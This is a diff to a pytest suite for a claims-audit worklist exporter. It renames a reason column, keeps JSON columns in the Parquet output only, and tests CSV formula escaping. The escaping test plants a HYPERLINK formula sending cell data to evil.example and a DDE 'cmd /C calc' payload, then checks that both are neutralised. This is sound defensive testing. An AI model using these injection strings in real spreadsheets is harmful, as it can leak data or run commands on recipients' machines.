@@ -41,16 +41,18 @@ def test_ranking_and_capacity(audited):
         w["recoupment_probability"] * w["amount_at_risk"],
         atol=0.02 + 1e-3 * w["expected_recoupment_dollars"],
     )
-    assert (w["reasons"].fillna("") != "").all()  # every worklist row is explained
-    for col in ("causes", "reasons", "rule_hits"):
-        w[col].map(json.loads)
+    assert (w["reason_1"].fillna("") != "").all()  # every worklist row is explained
+    pq = pd.read_parquet(out / "worklist.parquet")
+    for col in ("causes", "reasons", "rule_hits"):  # the JSON columns are for programs: in the Parquet only
+        assert col not in w.columns
+        pq[col].map(json.loads)
 
 
 def test_formats_round_trip(audited):
     out, _ = audited
     a = pd.read_csv(out / "worklist.csv", dtype={"claim_id": str, "billing_npi": str, "payer_id": str})
     b = pd.read_parquet(out / "worklist.parquet")
-    assert list(a.columns) == list(b.columns)
+    assert list(a.columns) == [c for c in b.columns if c not in audit.JSON_COLUMNS]
     assert (a["claim_id"] == b["claim_id"]).all()
     np.testing.assert_allclose(a["expected_recoupment_dollars"], b["expected_recoupment_dollars"])
 
@@ -167,12 +169,12 @@ def test_worklist_csv_escapes_formulas_and_keeps_numbers(trained, window, tmp_pa
     evil = '=HYPERLINK("http://evil.example/?d="&B2,"open me")'
     wl.worklist.loc[0, "claim_id"] = evil
     wl.worklist.loc[1, "payer_id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    wl.worklist.loc[2, "reasons"] = "-2+3"
+    wl.worklist.loc[2, "reason_1"] = "-2+3"
     wl.worklist.loc[3, "paid_amount"] = -12.5
     audit.write_worklist(wl, tmp_path / "a")
     raw = pd.read_csv(tmp_path / "a" / "worklist.csv", dtype=str, keep_default_na=False)
     assert raw.loc[0, "claim_id"] == "'" + evil
-    assert raw.loc[1, "payer_id"].startswith("'@") and raw.loc[2, "reasons"] == "'-2+3"
+    assert raw.loc[1, "payer_id"].startswith("'@") and raw.loc[2, "reason_1"] == "'-2+3"
     assert raw.loc[3, "paid_amount"] == "-12.5"  # a number, not escaped
     text_cells = raw.select_dtypes(object).to_numpy().ravel()
     assert not any(str(v).startswith(("=", "+", "@", "\t", "\r")) for v in text_cells)
